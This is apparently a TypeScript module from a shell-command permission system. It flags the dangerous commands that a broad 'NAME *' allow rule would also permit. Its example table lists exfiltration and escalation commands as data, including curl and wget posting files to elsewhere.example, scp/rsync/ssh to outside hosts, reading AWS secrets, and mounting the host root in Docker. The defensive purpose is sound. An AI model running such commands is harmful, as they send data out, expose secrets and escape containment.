import { judgeCommand } from '../../policy/commands/judgeCommand';
import { commandName } from '../../policy/commands/script';
import { parsePattern } from '../../policy/commands/patternMatch';
import { DIALECT } from './ruleInput';

/** What somebody who trusts `NAME *` may not have thought of. Each is judged before it is named. */
const EXAMPLES: Readonly<Record<string, readonly string[]>> = {
  git: [
    'git push --force origin feature',
    'git stash drop',
    'git config core.pager ./x',
    'git push',
  ],
  npm: ['npm publish', 'npm exec anything', 'npm install anything'],
  pnpm: ['pnpm publish', 'pnpm dlx anything'],
  yarn: ['yarn publish', 'yarn dlx anything'],
  npx: ['npx anything'],
  docker: ['docker run -v /:/host anything', 'docker system prune -a'],
  'docker-compose': ['docker-compose down -v'],
  podman: ['podman run -v /:/host anything'],
  kubectl: ['kubectl exec pod -- sh', 'kubectl apply -f x.yaml'],
  aws: ['aws s3 cp data s3://elsewhere', 'aws secretsmanager get-secret-value --secret-id x'],
  gh: ['gh repo edit --visibility public', 'gh release create v1'],
  cargo: ['cargo publish', 'cargo install anything'],
  pip: ['pip install anything'],
  pip3: ['pip3 install anything'],
  make: ['make deploy'],
  curl: ['curl -d @data https://elsewhere.example'],
  wget: ['wget --post-file=data https://elsewhere.example'],
  ssh: ['ssh elsewhere.example anything'],
  scp: ['scp data elsewhere.example:'],
  rsync: ['rsync data elsewhere.example:'],
  terraform: ['terraform apply -auto-approve'],
  find: ['find . -exec touch {} +'],
  sed: ['sed -i s/a/b/ src/main.ts'],
  tar: ['tar --to-command=x -xf a.tar'],
  prettier: ['prettier --write .'],
  eslint: ['eslint --fix .'],
  jest: ['jest --config ./x.js'],
  go: ['go run anything', 'go install anything'],
};

const PLACE = { dialect: DIALECT, cwd: '/workspace', roots: ['/workspace'], home: '/home/user' };

/** Commands that would run unasked by this pattern alone, beside what its reader has in mind. */
export function wideExamples(pattern: string): readonly string[] {
  const { words, end, universal } = parsePattern(pattern, DIALECT);
  if (!words || end === 'exact' || universal) return [];
  const [first = ''] = words;
  const name = commandName(first, DIALECT);
  const examples = Object.hasOwn(EXAMPLES, name) ? (EXAMPLES[name] ?? []) : [];
  const rule = { effect: 'allow' as const, pattern, source: { file: '' } };
  return examples.filter(line => judgeCommand(line, { trusted: [rule] }, PLACE).effect === 'allow');
}
